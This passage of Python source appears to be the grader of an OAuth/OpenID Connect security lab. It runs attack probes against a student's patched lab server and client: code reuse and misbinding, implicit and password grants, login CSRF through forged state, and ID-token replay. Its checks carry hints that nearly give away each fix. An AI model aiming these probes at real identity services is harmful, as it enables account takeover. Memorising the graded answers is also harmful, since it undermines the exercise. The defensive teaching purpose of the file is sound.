                BOUND_CLIENT.id, {"client_id": pair.evil_id, "client_secret": pair.evil_secret}),
        }  # fmt: skip
        for label, uri in _redirect_variants(pair).items():
            cases[f"redeemed with {label}"] = (BOUND_REDIRECT.id, {"redirect_uri": uri})
        for label, (rule, overrides) in cases.items():
            code, verifier = _fresh_code(pair, http)
            response = _redeem(pair, code, code_verifier=verifier, **overrides)
            findings.expect(
                not _issued(response),
                f"a code {label} got tokens",
                f"refused: a code {label}",
                rule=rule,
            )
        code, verifier = _fresh_code(pair, http)
        age = round(pair.rng.uniform(CODE_TOO_OLD_S, 2 * CODE_TOO_OLD_S))
        with pair.http() as plain:
            plain.post(pair.server + "/api/_lab/age-code", json={"code": code, "seconds": age})
        old = _redeem(pair, code, code_verifier=verifier)
        findings.expect(
            not _issued(old),
            f"a code {age} seconds old got tokens (at most 600, RFC 6749 §4.1.2)",
            f"refused: a code {age} seconds old",
            rule=EXPIRES.id,
        )


def _flows_battery(pair: Pair, findings: Findings) -> None:
    with _session(pair, "flows") as (http, email):
        code = _code(pair, http, challenge=attack.s256(_verifier(pair.rng, 64)))
        findings.expect(
            code is not None,
            "the authorization code flow is refused (response_type=code gets no code)",
            "the authorization code flow is on",
            rule=CODE_FLOW.id,
        )
        implicit = http.get(
            attack.authorize_url(
                pair.server,
                response_type="token",
                client_id=pair.client_id,
                redirect_uri=pair.redirect_uri,
                state=_word(pair.rng),
            )
        )
        location = implicit.headers.get("location", "")
        findings.expect(
            "access_token" not in location and "access_token" not in implicit.text,
            "response_type=token put an access token in the URL",
            "the implicit grant is refused (no token in any URL)",
            rule=NO_IMPLICIT.id,
        )
    email, password = _account(pair, "password")
    for label, tried in (("a wrong password", password + "x"), ("the right password", password)):
        with pair.http() as plain:
            response = plain.post(
                pair.server + "/token",
                data={
                    "grant_type": "password",
                    "username": email,
                    "password": tried,
                    "client_id": pair.client_id,
                },
            )
        error = response.json().get("error") if response.content else None
        findings.expect(
            response.status_code == 400 and error == "unsupported_grant_type",
            f"grant_type=password with {label} answered {response.status_code} {error!r}: "
            "the grant itself must be refused (unsupported_grant_type)",
            f"the password grant with {label} is refused (unsupported_grant_type)",
            rule=NO_PASSWORD.id,
        )


# -- fixes: the client ----------------------------------------------------------------------
def _with_param(url: str, name: str, value: str | None) -> str:
    parts = urlsplit(url)
    params = attack.query_params(url)
    params.pop(name, None)
    if value is not None:
        params[name] = value
    return urlunsplit(parts._replace(query=urlencode(params)))


def _login_started(pair: Pair, http: httpx.Client) -> dict[str, str]:
    """Start a login in ``http``'s browser; the authorization request's parameters."""
    response = http.get(pair.client + "/login")
    return attack.query_params(response.headers.get("location", ""))


def _state_battery(pair: Pair, findings: Findings) -> None:
    """Deliver the attacker's own code to a victim's browser with a bad ``state``.

    With a login in progress the code is made for that login's PKCE challenge and nonce (so
    only ``state`` can stop it); without one, a code the client redeems is burnt, so the
    attacker learns the client went past the state check even when PKCE stopped the rest."""
    rng = pair.rng
    cases: list[tuple[str, str, bool, Callable[[str, str], str | None]]] = [
        (UNSOLICITED.id, "the attacker's callback, no login in progress", False,
         lambda own, _: own),
        (UNSOLICITED.id, "the attacker's callback without state, no login in progress", False,
         lambda own, _: None),
        (UNSOLICITED.id, "the attacker's callback with an empty state, no login in progress",
         False, lambda own, _: ""),
        (STATE_MATCHES.id, "the attacker's callback with its own state during a login", True,
         lambda own, _: own),
        (STATE_MATCHES.id, "the attacker's callback without state during a login", True,
         lambda own, _: None),
        (STATE_MATCHES.id, "the attacker's callback with an empty state during a login", True,
         lambda own, _: ""),
        (STATE_MATCHES.id, "the attacker's callback with the login's state one character off",
         True, lambda own, pending: _near_miss(pending, rng)),
    ]  # fmt: skip
    with _session(pair, "attacker") as (attacker, _):
        for rule, label, pending, state_of in cases:
            with pair.http() as victim:
                verifier = _verifier(rng, 64)
                request = {"code_challenge": attack.s256(verifier), "nonce": _word(rng)}
                if pending:
                    request = _login_started(pair, victim)
                code = _code(
                    pair, attacker, challenge=request.get("code_challenge"),
                    nonce=request.get("nonce"),
                )  # fmt: skip
                if code is None:
                    raise Broken("the server issued no code for a correct authorization request")
                state = state_of(secrets.token_urlsafe(16), request.get("state", ""))
                params = {"code": code} | ({} if state is None else {"state": state})
                victim.get(pair.redirect_uri + "?" + urlencode(params))
                who = _client_me(victim, pair)
            burnt = not pending and not _issued(_redeem(pair, code, code_verifier=verifier))
            findings.expect(
                who is None and not burnt,
                f"login CSRF: {label} logged the victim in as {who}"
                if who
                else f"{label} went past the state check (the client redeemed the code)",
                f"refused: {label}",
                rule=rule,
            )


def _id_token(pair: Pair, http: httpx.Client, nonce: str | None) -> str:
    """A fresh ID token of ``http``'s user, for this client, with ``nonce`` (None: none)."""
    code, verifier = _fresh_code(pair, http, nonce=nonce)
    tokens = _redeem(pair, code, code_verifier=verifier)
    if not _issued(tokens):
        raise Broken(f"could not get an ID token to replay: {tokens.text[:100]}")
    return str(tokens.json()["id_token"])


def _nonce_battery(pair: Pair, findings: Findings) -> None:
    rng = pair.rng
    with _session(pair, "victim") as (victim, _):
        with_nonce = _id_token(pair, victim, "n-" + secrets.token_hex(8))
        without_nonce = _id_token(pair, victim, None)
        cases = {
            "a replayed ID token, no login in progress": (NONCE_REQUIRED.id, with_nonce, False),
            "a replayed ID token while a login is in progress": (
                NONCE_MATCHES.id, with_nonce, True),
            "an ID token without a nonce, no login in progress": (
                NONCE_REQUIRED.id, without_nonce, False),
            "an ID token without a nonce while a login is in progress": (
                NONCE_REQUIRED.id, without_nonce, True),
        }  # fmt: skip
        for label, (rule, token, pending) in cases.items():
            with pair.http() as http:
                # during a login the callback carries that login's own state: only the
                # nonce stands between the replayed token and a session
                state = _login_started(pair, http).get("state") if pending else None
                params = {"id_token": token} | ({"state": state} if state else {})
                http.get(pair.client + "/callback", params=params)
                who = _client_me(http, pair)
            findings.expect(
                who is None,
                f"{label} logged the attacker in as {who}",
                f"refused: {label}",
                rule=rule,
            )
        near_misses = {
            "its last character changed": lambda n: n[:-1] + ("A" if n[-1] != "A" else "B"),
            "one character off": lambda n: _near_miss(n, rng),
        }
        for how, miss in near_misses.items():
            with pair.http() as http:
                login = _login_started(pair, http)
                nonce = login.get("nonce") or "n-" + secrets.token_hex(8)
                token = _id_token(pair, victim, miss(nonce))
                params = {"id_token": token, "state": login.get("state", "")}
                http.get(pair.client + "/callback", params=params)
                who = _client_me(http, pair)
            findings.expect(
                who is None,
                f"an ID token with the login's nonce, {how}, logged the attacker in as {who}",
                f"refused: an ID token with the login's nonce, {how}",
                rule=NONCE_MATCHES.id,
            )


# -- fix checks -----------------------------------------------------------------------------
def _run(
    ctx: CheckContext,
    batteries: dict[str, Callable[[Pair, Findings], None]],
    passed: str,
    failed: str,
    legit: Rule | None = None,
) -> Verdict:
    """Run ``batteries`` and the legitimate flows; a legitimate failure names ``legit``."""
    pair = _pair(ctx.require_patched(), ctx.rng)
    findings = Findings()
    for name, battery in batteries.items():
        # several batteries: each one's probes summed up in one line when it passes
        mine = findings if len(batteries) == 1 else Findings()
        try:
            battery(pair, mine)
        except Broken as exc:
            mine.fail(f"{name}: {exc}", rule=legit.id if legit else None)
        if mine is not findings:
            findings.problems.extend(mine.problems)
            if not mine.problems:
                findings.saw(f"{name}: every attack refused ({len(mine.observations)} probes)")
    try:
        _legit_battery(pair, findings, legit.id if legit else None)
    except Broken as exc:
        findings.fail(f"legitimate flow: {exc}", rule=legit.id if legit else None)
    return findings.verdict(passed, failed)


@LAB.check(
    "pkce",
    title="Require PKCE with S256 at the token endpoint",
    kind="fix",
    fixes=("verify_pkce",),
    rules=PKCE_RULES,
    hints=(
        "No challenge, no verifier, or a method other than 'S256': return False.",
        "S256: BASE64URL(SHA256(ASCII(verifier))) without '=' padding must equal the challenge "
        "(authlib.oauth2.rfc7636.create_s256_code_challenge computes it).",
        "Compare with hmac.compare_digest; RFC 7636 §4.1 also limits the verifier to 43–128 "
        "unreserved characters.",
    ),
)
def pkce(ctx: CheckContext) -> Verdict:
    return _run(
        ctx,
        {"PKCE": _pkce_battery},
        "only S256 PKCE redeems a code",
        "PKCE is not enforced",
        S256_REDEEMS,
    )


@LAB.check(
    "redirect-uri-exact",
    title="Match redirect URIs exactly",
    kind="fix",
    fixes=("validate_redirect_uri",),
    rules=REDIRECT_RULES,
    hints=(
        "RFC 9700 §4.1.3: compare the whole string, exactly.",
        "No lower(), no startswith, no urlsplit-and-compare-some-parts.",
    ),
)
def redirect_uri_exact(ctx: CheckContext) -> Verdict:
    return _run(
        ctx,
        {"redirect URIs": _redirect_battery},
        "only the registered redirect URI gets a code",
        "a tricked redirect_uri still gets through",
        REGISTERED_WORKS,
    )


@LAB.check(
    "codes",
    title="Codes: single use, at most 10 minutes, bound to client and redirect URI",
    kind="fix",
    fixes=("redeem_code",),
    rules=CODE_RULES,
    hints=(
        "codes.pop(code) takes the record out atomically: a second redemption finds None.",
        "Compare record['client_id'] with client_id and record['redirect_uri'] with "
        "redirect_uri (the token request must repeat it exactly).",
        "time.time() - record['issued_at'] must not exceed 600 seconds.",
    ),
)
def codes(ctx: CheckContext) -> Verdict:
    return _run(
        ctx,
        {"codes": _codes_battery},
        "codes are single-use and bound",
        "codes are still loose",
        FRESH_CODE,
    )


@LAB.check(
    "flows",
    title="Refuse the implicit and password grants",
    kind="fix",
    fixes=("flow_allowed",),
    rules=FLOW_RULES,
    hints=(
        "Only one flow is left in OAuth 2.1 for a user at a browser: 'authorization_code'.",
        "RFC 9700 §2.1.2 (implicit) and §2.4 (password): MUST NOT be used.",
    ),
)
def flows(ctx: CheckContext) -> Verdict:
    return _run(
        ctx,
        {"flows": _flows_battery},
        "only the code flow is offered",
        "an old grant is on",
        CODE_FLOW,
    )


@LAB.check(
    "state",
    title="Client: compare state with the session's, once",
    kind="fix",
    fixes=("check_state",),
    rules=STATE_RULES,
    hints=(
        "No login in progress (expected is None) means an unsolicited callback: False.",
        "A missing returned state: False.",
        "Otherwise hmac.compare_digest(expected, returned).",
    ),
)
def state(ctx: CheckContext) -> Verdict:
    return _run(
        ctx,
        {"state": _state_battery},
        "login CSRF is stopped",
        "login CSRF still works",
        CLIENT_LOGIN,
    )


@LAB.check(
    "nonce",
    title="Client: check the ID token's nonce",
    kind="fix",
    fixes=("check_nonce",),
    rules=NONCE_RULES,
    hints=(
        "The ID token's claims['nonce'] must equal the nonce this session sent.",
        "No nonce expected, or none in the token: False.",
        "Compare with hmac.compare_digest.",
    ),
)
def nonce(ctx: CheckContext) -> Verdict:
    return _run(
        ctx,
        {"nonce": _nonce_battery},
        "replayed ID tokens are refused",
        "replay works",
        CLIENT_LOGIN,
    )


BATTERIES: dict[str, Callable[[Pair, Findings], None]] = {
    "PKCE": _pkce_battery,
    "redirect URIs": _redirect_battery,
    "codes": _codes_battery,
    "flows": _flows_battery,
    "state": _state_battery,
    "nonce": _nonce_battery,
}


@LAB.check(
    "verify",
    title="Replay every attack of this lab against your fixed server and client",
    kind="fix",
    fixes=(
        "validate_redirect_uri",
        "verify_pkce",
        "redeem_code",
        "flow_allowed",
        "check_state",
        "check_nonce",
    ),
    points=2,
    rules=merge_rules(PKCE_RULES, REDIRECT_RULES, CODE_RULES, FLOW_RULES, STATE_RULES, NONCE_RULES),
    hints=(
        "Pass all six functions: the server's four and the client's two.",
        "Each battery names what failed; fix that function and run the cell again.",
    ),
)
def verify(ctx: CheckContext) -> Verdict:
    return _run(ctx, BATTERIES, "every attack fails and logins work", "some attacks get through")
